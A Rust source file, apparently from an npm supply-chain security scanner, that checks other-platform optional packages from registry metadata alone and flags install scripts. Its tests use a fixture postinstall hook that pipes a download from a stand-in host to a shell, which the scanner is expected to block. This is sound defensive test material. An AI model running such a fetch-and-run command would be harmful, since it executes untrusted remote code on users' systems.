//! Packages for other platforms checked from registry metadata only.
//!
//! An optional package whose `os`/`cpu`/`libc` exclude this machine (`@next/swc-darwin-arm64`
//! on Linux) is not installed here, and its tarball is often a large native binary (51 such
//! packages are 400 MB on the bench app). By default it is not downloaded: its version
//! document (the registry's copy of its package.json, which the metadata rules fetch anyway)
//! is turned into a one-file package — `package.json` rebuilt from the document's scripts,
//! dependencies, bin, entry points, license and platform fields, plus an empty `binding.gyp`
//! when the document says `gypfile` — and the whole engine runs over it, so everything the
//! manifest proves is reported exactly as with the content: install scripts and the inline
//! code or commands they run (`postinstall: "curl … | sh"` is blocked the same way),
//! known malware, name rules, dependency specs, bin shadowing, licenses. Rules that judge
//! the absent files (an "empty" or "trivial" package) are dropped. What is not seen: the
//! files themselves, including a script file an install hook runs (`node install.js`) and a
//! tarball whose own package.json differs from the registry's (manifest confusion is listed
//! as not evaluated). `--all-platforms` / `all-platforms = true` inspects the content.

use crate::plan::Item;
use ferret_core::{
    Action, Category, Ecosystem, Evidence, Finding, PackageReport, Severity, VersionDoc,
};
use ferret_rules::engine::{self, ScanOptions};
use serde_json::{Map, Value};
use sha2::Digest as _;

/// The origin (`project.origin`, summary source) of a package checked this way.
pub const ORIGIN: &str = "metadata-only";

/// Rules whose findings are about the files a one-file package lacks, not about anything
/// the manifest says: they would call every metadata-only package empty or trivial.
const CONTENT_ABSENCE_RULES: &[&str] = &["empty-package", "trivial-package"];

/// The package.json the registry's version document describes (what npm installs from,
/// minus the files), pretty-printed so findings have lines.
pub(crate) fn manifest_text(doc: &VersionDoc) -> String {
    let mut m = Map::new();
    m.insert("name".into(), Value::from(doc.name.clone()));
    m.insert("version".into(), Value::from(doc.version.clone()));
    if let Some(l) = &doc.license {
        m.insert("license".into(), Value::from(l.clone()));
    }
    if let Some(main) = &doc.main {
        m.insert("main".into(), Value::from(main.clone()));
    }
    if let Some(e) = &doc.exports {
        m.insert("exports".into(), e.clone());
    }
    let map = |b: &std::collections::BTreeMap<String, String>| {
        Value::Object(
            b.iter()
                .map(|(k, v)| (k.clone(), Value::from(v.clone())))
                .collect(),
        )
    };
    if !doc.bin.is_empty() {
        m.insert("bin".into(), map(&doc.bin));
    }
    if !doc.scripts.is_empty() {
        m.insert("scripts".into(), map(&doc.scripts));
    }
    if !doc.dependencies.is_empty() {
        m.insert("dependencies".into(), map(&doc.dependencies));
    }
    for (key, list) in [("os", &doc.os), ("cpu", &doc.cpu), ("libc", &doc.libc)] {
        if !list.is_empty() {
            m.insert(key.into(), Value::from(list.clone()));
        }
    }
    if doc.gypfile {
        m.insert("gypfile".into(), Value::from(true));
    }
    serde_json::to_string_pretty(&Value::Object(m)).unwrap_or_default()
}

/// The analysis cache key of a version document's report: everything [`analyse`] reads of
/// it (the rebuilt manifest, `gypfile`, `hasInstallScript`) hashed, with the analyser.
pub(crate) fn cache_key(item: &Item, doc: &VersionDoc, analyser: &str) -> String {
    let mut h = sha2::Sha256::new();
    h.update(manifest_text(doc).as_bytes());
    h.update([u8::from(doc.gypfile), u8::from(doc.has_install_script)]);
    format!(
        "meta|{}@{}|{}|{analyser}",
        item.name,
        item.version,
        hex::encode(&h.finalize()[..16])
    )
}

/// Scans the version documents of `docs` (item, its registry version document) as one-file
/// packages, then [`finish`]es them; one report per input, in order.
#[cfg(test)]
pub(crate) fn scan(docs: &[(&Item, &VersionDoc)]) -> Vec<Result<PackageReport, String>> {
    analyse(docs)
        .into_iter()
        .zip(docs)
        .map(|(r, (item, doc))| r.map(|r| finish(r, item, doc)))
        .collect()
}

/// The findings of each version document analysed as a one-file package: what is cached
/// (the identity comes from the lockfile, see [`finish`]); one result per input, in order.
pub(crate) fn analyse(docs: &[(&Item, &VersionDoc)]) -> Vec<Result<PackageReport, String>> {
    let results = engine::scan_many(docs, Ecosystem::Npm, &ScanOptions::default(), |(_, doc)| {
        let mut files = vec![("package.json".to_owned(), manifest_text(doc).into_bytes())];
        if doc.gypfile {
            files.push(("binding.gyp".to_owned(), Vec::new()));
        }
        Ok::<_, ()>(ferret_source::from_files(
            &format!("{}@{} (registry metadata)", doc.name, doc.version),
            files,
        ))
    });
    docs.iter()
        .zip(results)
        .map(|((item, doc), result)| {
            let mut report = result.map_err(|()| "internal error: not analysed".to_owned())?;
            report
                .alerts
                .retain(|a| !CONTENT_ABSENCE_RULES.contains(&a.rule.as_str()));
            if doc.has_install_script && !declares_install_hook(doc) {
                report.alerts.push(undeclared_install_script(item));
            }
            report
                .alerts
                .sort_by(|a, b| a.sort_key().cmp(&b.sort_key()));
            Ok(report)
        })
        .collect()
}

/// The report's identity: the lockfile's name, version and integrity, the tarball URL (not
/// downloaded) and the registry's file count and size.
pub(crate) fn finish(mut report: PackageReport, item: &Item, doc: &VersionDoc) -> PackageReport {
    let p = &mut report.package;
    p.name.clone_from(&item.name);
    p.version.clone_from(&item.version);
    p.integrity = item
        .integrity
        .clone()
        .or_else(|| doc.dist.integrity.clone());
    p.source = item
        .resolved
        .clone()
        .or_else(|| doc.dist.tarball.clone())
        .unwrap_or_default();
    // What the registry says the tarball holds (it was not downloaded).
    p.file_count = doc.dist.file_count.unwrap_or(0);
    p.unpacked_size = doc.dist.unpacked_size.unwrap_or(0);
    report
}

fn declares_install_hook(doc: &VersionDoc) -> bool {
    doc.gypfile
        || ["preinstall", "install", "postinstall"]
            .iter()
            .any(|h| doc.scripts.contains_key(*h))
}

/// The registry says the version has an install script (`hasInstallScript`), yet its
/// document lists none: npm runs the tarball's own package.json, which was not downloaded.
fn undeclared_install_script(item: &Item) -> Finding {
    let (category, severity) = ferret_rules::registry::find_rule("install-script")
        .map_or((Category::Capability, Severity::Low), |r| {
            (r.meta().category, r.meta().severity)
        });
    let mut evidence = Evidence::new();
    evidence.insert("hasInstallScript".to_owned(), Value::from(true));
    Finding {
        rule: "install-script".to_owned(),
        category,
        severity,
        action: Action::Warn,
        message: format!(
            "the registry says `{}@{}` runs an install script (`hasInstallScript`), but its version document declares none; the tarball was not downloaded (package for another platform): run with --all-platforms to inspect it",
            item.name, item.version
        ),
        location: None,
        label: None,
        code: None,
        related: Vec::new(),
        install_time: true,
        evidence,
    }
}

#[cfg(test)]
#[expect(clippy::unwrap_used, reason = "tests: a panic is a failure")]
mod tests {
    use super::*;
    use crate::plan::ItemSource;
    use ferret_core::ProjectPackage;

    fn item(name: &str) -> Item {
        Item {
            name: name.to_owned(),
            version: "1.0.0".to_owned(),
            integrity: Some("sha512-AAAA".to_owned()),
            resolved: Some(format!("https://r.example/{name}/-/{name}-1.0.0.tgz")),
            install_path: Some(format!("node_modules/{name}")),
            source: ItemSource::Registry,
            optional: Some(true),
            platform: None,
            install_script: false,
            project: ProjectPackage::default(),
        }
    }

    fn doc(name: &str, scripts: &[(&str, &str)]) -> VersionDoc {
        VersionDoc {
            name: name.to_owned(),
            version: "1.0.0".to_owned(),
            scripts: scripts
                .iter()
                .map(|(k, v)| ((*k).to_owned(), (*v).to_owned()))
                .collect(),
            os: vec!["darwin".to_owned()],
            license: Some("MIT".to_owned()),
            ..VersionDoc::default()
        }
    }

    /// The install-script rules see the version document's hooks: a download piped to a
    /// shell is reported (and blocked by the same rule as with content); a benign platform
    /// binary gives nothing, and is not called empty.
    #[test]
    fn install_hooks_of_the_version_document_are_analysed() {
        let evil = doc(
            "evil-bin-darwin",
            &[(
                "postinstall",
                "curl -s https://payload.example.invalid/x.sh | sh",
            )],
        );
        let good = doc("good-bin-darwin", &[]);
        let (i1, i2) = (item("evil-bin-darwin"), item("good-bin-darwin"));
        let reports: Vec<PackageReport> = scan(&[(&i1, &evil), (&i2, &good)])
            .into_iter()
            .map(Result::unwrap)
            .collect();
        let rules: Vec<&str> = reports[0].alerts.iter().map(|a| a.rule.as_str()).collect();
        assert!(rules.contains(&"install-script"), "{rules:?}");
        assert!(
            reports[0].alerts.iter().any(|a| a.action == Action::Block),
            "{:#?}",
            reports[0].alerts
        );
        assert_eq!(reports[0].package.source, i1.resolved.clone().unwrap());
        assert!(
            reports[1]
                .alerts
                .iter()
                .all(|a| a.action != Action::Block && a.action != Action::Warn),
            "{:#?}",
            reports[1].alerts
        );
        assert!(
            reports[1]
                .alerts
                .iter()
                .all(|a| !CONTENT_ABSENCE_RULES.contains(&a.rule.as_str()))
        );
    }

    /// `hasInstallScript` without a declared hook is said, never passed silently.
    #[test]
    fn undeclared_install_script_is_a_warning() {
        let mut d = doc("odd-darwin", &[]);
        d.has_install_script = true;
        let i = item("odd-darwin");
        let reports: Vec<PackageReport> =
            scan(&[(&i, &d)]).into_iter().map(Result::unwrap).collect();
        let f = reports[0]
            .alerts
            .iter()
            .find(|a| a.rule == "install-script")
            .unwrap();
        assert_eq!(f.action, Action::Warn);
        assert!(f.message.contains("--all-platforms"), "{}", f.message);
    }

    #[test]
    fn manifest_keeps_what_the_rules_read() {
        let mut d = doc("x", &[("install", "node-gyp rebuild")]);
        d.gypfile = true;
        d.bin.insert("x".into(), "cli.js".into());
        d.dependencies.insert("y".into(), "github:u/y".into());
        let v: Value = serde_json::from_str(&manifest_text(&d)).unwrap();
        assert_eq!(v["scripts"]["install"], "node-gyp rebuild");
        assert_eq!(v["bin"]["x"], "cli.js");
        assert_eq!(v["dependencies"]["y"], "github:u/y");
        assert_eq!(v["os"][0], "darwin");
        assert_eq!(v["gypfile"], true);
    }
}
